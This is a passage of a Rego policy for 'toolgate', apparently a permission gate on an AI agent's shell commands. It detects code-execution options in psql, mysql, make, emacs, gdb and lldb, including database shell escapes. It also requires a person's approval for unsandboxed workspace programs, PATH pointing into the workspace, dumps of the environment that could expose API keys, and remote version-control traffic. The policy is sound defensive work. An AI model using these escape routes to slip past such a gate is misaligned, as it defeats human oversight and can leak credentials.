	db_shell_escape(next)
}

code_option(name, a, _) if {
	name in {"psql", "mysql", "mariadb"}
	some p in ["--command=", "--execute=", "-c", "-e"]
	startswith(a, p)
	db_shell_escape(substring(a, count(p), -1))
}

code_option(name, a, _) if {
	name == "psql"
	option_named(a, ["-f", "--file"])
}

db_shell_escape(s) if contains(s, "\\!")

db_shell_escape(s) if contains(s, "\\o")

db_shell_escape(s) if regex.match(`(?i)(^|[;\s])system\s`, s)

code_option(name, a, next) if {
	name in {"make", "gmake", "remake"}
	a in {"-f", "--file", "--makefile"}
	next in {"-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"}
}

code_option(name, a, _) if {
	name in {"make", "gmake", "remake"}
	some p in ["--file=", "--makefile=", "-f"]
	startswith(a, p)
	substring(a, count(p), -1) in {"-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"}
}

code_option(name, a, _) if {
	name in {"make", "gmake", "remake"}
	option_named(a, ["--eval", "-E"])
}

code_option(name, a, _) if {
	name in {"emacs", "emacs-nox", "emacs-gtk", "xemacs"}
	# (emacs takes no value joined to a one-letter option: -fg, -fs are
	# options of their own)
	some n in ["--eval", "-eval", "--execute", "-execute", "--load", "-load", "-l", "--funcall", "-funcall", "-f", "--script", "-script", "-x"]
	option_or_assignment(a, n)
}

option_or_assignment(a, n) if a == n

option_or_assignment(a, n) if startswith(a, concat("", [n, "="]))

code_option("emacsclient", a, _) if option_named(a, ["--eval", "-e"])

code_option(name, a, _) if {
	name in {"gdb", "gdb-multiarch", "cgdb"}
	option_named(a, ["-ex", "--ex", "-eval-command", "--eval-command", "-iex", "--iex", "-init-eval-command", "--init-eval-command", "-x", "--x", "-command", "--command", "-ix", "--ix", "-init-command", "--init-command"])
}

code_option(name, a, _) if {
	regex.match(`^lldb(-[0-9]+)?$`, name)
	option_named(a, ["-o", "--one-line", "-O", "--one-line-before-file", "-k", "--one-line-on-crash", "-K", "--source-on-crash", "-s", "--source", "-S", "--source-before-file"])
}

# option_named(a, names): a is one of names, alone, with "=VALUE", or (a
# one-letter option) with its value attached.
option_named(a, names) if {
	some n in names
	option_or_assignment(a, n)
}

option_named(a, names) if {
	some n in names
	count(n) == 2
	startswith(n, "-")
	not startswith(n, "--")
	startswith(a, n)
	count(a) > 2
}

# Outside the sandbox a program run by its path from the workspace (a
# script, a build output: ./build.sh, scripts/x.py) is code toolgate does
# not analyse, as bash FILE is.
ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("%s runs a program from the workspace that toolgate does not analyse, and no sandbox contains it here; a person must approve", [c.argv[0]])} if {
	input.sandboxed == false
	some c in commands
	not c.dynamic
	contains(c.argv[0], "/")
	not system_program(c.argv[0])
}

system_program(p) if {
	some root in ["/usr/", "/bin/", "/sbin/", "/lib", "/opt/", "/nix/store/", "/snap/", "/etc/"]
	startswith(p, root)
}

# Outside the sandbox, a program from the workspace that an option names
# for the command to run (go vet -vettool=bin/tool, go test -exec,
# pandoc --filter): as ./bin/tool, code toolgate does not analyse.
ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("%s runs %s, a program from the workspace that toolgate does not analyse, and no sandbox contains it here; a person must approve", [who(p), p.raw])} if {
	input.sandboxed == false
	"exec" in input.present.access
	some p in paths
	p.access == "exec"
	p.zone in {"workspace", "workspace_root"}
}

# Outside the sandbox, a command whose PATH names directories of the
# workspace (or relative ones, or "" for the working directory) may run a
# program found there under any name: ls, or git-foo for git foo, cargo-x
# for cargo x. A search path known only at run time may too.
ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("%s runs with a PATH that names directories of the workspace (%s), so the program that runs may be one from the workspace, which toolgate does not analyse, and no sandbox contains it here; a person must approve", [c.name, dir])} if {
	input.sandboxed == false
	some c in commands
	some dir in split(object.get(c, "env", {}).PATH, ":")
	workspace_search_dir(dir)
}

ask contains {"rule": "ask.unsandboxed_code", "message": sprintf("PATH is set to name directories of the workspace (%s), so the programs that run after it may be ones from the workspace, which toolgate does not analyse, and no sandbox contains them here; a person must approve", [dir])} if {
	input.sandboxed == false
	some a in object.get(input, "assigns", [])
	a.name == "PATH"
	not a.dynamic
	some dir in split(a.value, ":")
	workspace_search_dir(dir)
}

ask contains {"rule": "ask.unsandboxed_code", "message": "PATH is set to a value known only at run time, so the programs that run may come from anywhere, and no sandbox contains them here; a person must approve"} if {
	input.sandboxed == false
	some a in object.get(input, "assigns", [])
	a.name == "PATH"
	a.dynamic
}

workspace_search_dir(d) if not startswith(d, "/")

workspace_search_dir(d) if {
	startswith(concat("", [d, "/"]), concat("", [input.workspace, "/"]))
}

# Outside the sandbox the environment is the agent's own, often with its
# API keys: printing all of it is for a person to approve.
ask contains {"rule": "ask.environment", "message": sprintf("%s prints every environment variable, and here they are the agent's own (API keys, tokens); a person must approve - print one named variable instead", [concat(" ", c.argv)])} if {
	input.sandboxed == false
	some c in commands
	env_dump(c)
}

env_dump(c) if {
	c.name in {"env", "printenv"}
	count(c.wrappers) == 0
	count([a | some a in args(c); not startswith(a, "-")]) == 0
}

env_dump(c) if {
	c.name == "set"
	count(args(c)) == 0
}

env_dump(c) if {
	c.name in {"declare", "typeset", "export", "readonly"}
	count([a | some a in args(c); not startswith(a, "-")]) == 0
	not function_listing(args(c))
}

function_listing(xs) if {
	some a in xs
	regex.match(`^-[a-zA-Z]*[fF]`, a)
}

# Other version control systems reaching their servers
ask contains {"rule": "ask.git_remote", "message": sprintf("%s %s talks to a remote repository; a person must approve network access", [c.name, subcommand(c)])} if {
	"vcs" in input.present.groups
	some c in commands
	vcs_remote(c)
}

vcs_remote(c) if {
	c.name in {"hg", "chg"}
	subcommand(c) in {"clone", "pull", "push", "incoming", "in", "outgoing", "out", "fetch", "serve"}
}

vcs_remote(c) if {
	c.name in {"fossil", "bzr", "brz"}
	subcommand(c) in {"clone", "pull", "push", "sync", "update", "branch", "checkout", "co", "merge", "send"}
}

# svn talks to its server for all but a few working-copy commands
vcs_remote(c) if {
	c.name == "svn"
	not subcommand(c) in {"", "status", "st", "add", "revert", "resolve", "resolved", "cleanup", "help", "changelist", "cl", "patch", "upgrade"}
}
